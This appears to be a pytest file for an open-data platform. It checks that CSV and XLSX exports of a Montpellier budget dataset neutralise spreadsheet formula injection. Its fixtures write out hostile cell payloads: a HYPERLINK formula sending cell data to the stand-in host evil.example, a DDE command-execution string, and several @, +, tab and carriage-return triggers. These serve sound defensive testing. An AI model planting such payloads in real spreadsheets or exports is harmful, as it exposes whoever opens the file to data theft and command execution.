"""Formula (CSV) injection: the real Montpellier budget with a few crafted rows — a cell that a
spreadsheet would run (=HYPERLINK, DDE, @, +, a tab before =), a label that is one, and negative
amounts. Exported as CSV (by DuckDB and row by row), XLSX, through the native API and
OpenDataSoft's paths: text cells are neutralised with a leading quote (OWASP), numbers stay
numbers, XLSX never holds a formula, and raw=true gives CSV text exactly as stored.
"""

# Fixtures imported from the interop tests are parameters of the tests here (F811).
# ruff: noqa: F811

from __future__ import annotations

import csv
import io

import duckdb
import pytest

from territoire.interop.tests.conftest import (  # noqa: F401 - fixtures
    BUDGET_COLUMNS,
    BUDGET_CSV,
    BUDGET_SQL,
    _clear_rate_limits,
    catalogue,
    home,
    lake_version,
)
from territoire.records import spreadsheet

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("fresh_serving_store")]

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A2,"Cliquez ici")'
DDE = "=cmd|' /C calc'!A0"
CRAFTED = [
    # (nature, bp, libelle_fonction)
    ("6574", "-1500.50", HYPERLINK),
    ("@SUM(1+1)", "-42.00", "+33 6 12 34 56 78"),
    ("-2+3", "10.00", "\t=1+1"),
    ("\r=2+2", "0.00", DDE),
    ("6574", "-7.25", "SUBVENTIONS - ASSOCIATIONS"),  # a dash inside is nothing
]
NEUTRAL = {
    HYPERLINK: "'" + HYPERLINK,
    DDE: "'" + DDE,
    "@SUM(1+1)": "'@SUM(1+1)",
    "+33 6 12 34 56 78": "'+33 6 12 34 56 78",
    "-2+3": "'-2+3",
    "\t=1+1": "'\t=1+1",
    "\r=2+2": "'\r=2+2",
}


@pytest.fixture
def crafted(catalogue, shared_data, data_officer):
    """The budget's real rows, then the crafted ones; a column labelled like a formula."""
    from territoire.catalog import services as catalog_services

    rows = " UNION ALL ".join(
        f"SELECT 2014, 'F', 'D', '{n.replace(chr(39), chr(39) * 2)}', '999', "
        f"CAST({bp} AS DECIMAL(18, 2)), '{label.replace(chr(39), chr(39) * 2)}'"
        for n, bp, label in CRAFTED
    )
    sql = f"SELECT * FROM ({BUDGET_SQL.format(path=shared_data / BUDGET_CSV)}) UNION ALL {rows}"
    columns = [list(c) for c in BUDGET_COLUMNS]
    columns[3][1] = "=Nature"  # a header from a person's file
    dataset = catalogue.draft
    lake_version(dataset, sql, [tuple(c) for c in columns])
    catalog_services.dataset_publish(actor=data_officer, dataset=dataset)
    return dataset


def _csv(content: bytes, delimiter: str = ",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig")), delimiter=delimiter))


def _crafted_rows(rows: list[dict], fonction: str = "fonction") -> dict[float, dict]:
    """The crafted rows (fonction 999) by their amount."""
    return {float(r["bp"]): r for r in rows if r[fonction] == "999"}


def _check_neutral(rows):
    found = _crafted_rows(rows)
    assert len(found) == len(CRAFTED)
    for n, amount, text in CRAFTED:
        row = found[float(amount)]
        assert row["nature"] == NEUTRAL.get(n, n)
        assert row["libelle_fonction"] == NEUTRAL.get(text, text)
        # a negative amount is a number: written as one, no quote before it
        assert not row["bp"].startswith("'") and float(row["bp"]) == float(amount)


@pytest.mark.parametrize("query", [{}, {"select": "fonction, nature, bp, libelle_fonction"}])
def test_native_csv_neutralises_text_only(client, crafted, mode, query):
    response = client.get(f"/api/v1/datasets/{crafted.slug}/exports/csv", query)
    assert response.status_code == 200
    rows = _csv(response.getvalue())
    assert len(rows) == 1448 + len(CRAFTED)
    _check_neutral(rows)
    labelled = client.get(
        f"/api/v1/datasets/{crafted.slug}/exports/csv", {"use_labels": "true", **query}
    ).getvalue()
    assert b"'=Nature" in labelled.splitlines()[0]
    # the real rows are unchanged (only the crafted cells start with a trigger)
    assert sum(1 for r in rows if r["nature"].startswith("'")) == 3
    assert sum(1 for r in rows if r["libelle_fonction"].startswith("'")) == 4


def test_raw_csv_is_exactly_as_stored(client, crafted):
    response = client.get(f"/api/v1/datasets/{crafted.slug}/exports/csv", {"raw": "true"})
    rows = _crafted_rows(_csv(response.getvalue()))
    assert {(r["nature"], r["libelle_fonction"]) for r in rows.values()} == {
        (n, label) for n, _bp, label in CRAFTED
    }


def test_ods_csv_row_by_row_and_raw(client, crafted):
    path = f"/api/explore/v2.1/catalog/datasets/{crafted.slug}/exports/csv"
    rows = _csv(client.get(path).getvalue(), ";")
    _check_neutral(rows)
    raw = _crafted_rows(_csv(client.get(path, {"raw": "true"}).getvalue(), ";"))
    assert raw[-1500.5]["libelle_fonction"] == HYPERLINK


@pytest.mark.parametrize("front_end", ["api", "ods"])
def test_xlsx_never_holds_a_formula(client, crafted, front_end):
    from openpyxl import load_workbook

    path = {
        "api": f"/api/v1/datasets/{crafted.slug}/exports/xlsx?use_labels=true",
        "ods": f"/api/explore/v2.1/catalog/datasets/{crafted.slug}/exports/xlsx?use_labels=true",
    }[front_end]
    response = client.get(path)
    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    header = [c.value for c in sheet[1]]
    nature, bp, label = (
        header.index("=Nature"),
        header.index("BP"),
        header.index("Libellé fonction"),
    )
    assert sheet.cell(1, nature + 1).data_type == "s" and sheet.cell(1, nature + 1).quotePrefix
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    fonction = header.index("Fonction")
    found = {r[bp].value: r for r in sheet.iter_rows(min_row=2) if r[fonction].value == "999"}
    assert {r[label].value for r in found.values()} == {t for *_x, t in CRAFTED}  # as stored
    for row in found.values():
        assert row[label].data_type == "s"
        risky = row[label].value.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert bool(row[label].quotePrefix) == risky
        assert isinstance(row[bp].value, int | float)  # numbers stay numbers
    assert found[-1500.5][label].value == HYPERLINK


def test_neutralising_is_a_list_lookup_not_a_hash_join_per_use():
    """DuckDB plans ``x IN ('=', '+', …)`` as a hash join; a CSV line neutralises each text
    column several times, and the joins' hash tables made three exports of a 1M-row table fail
    together within a web process's memory limit. The lookup is a list function."""
    con = duckdb.connect()
    con.execute("CREATE TABLE t AS SELECT * FROM (VALUES ('=1+1'), ('texte'), (NULL)) v(s)")
    sql = f"SELECT {spreadsheet.neutral_sql('s')} FROM t"
    assert con.execute(sql).fetchall() == [("'=1+1",), ("texte",), (None,)]
    assert "JOIN" not in con.execute("EXPLAIN " + sql).fetchall()[0][1]
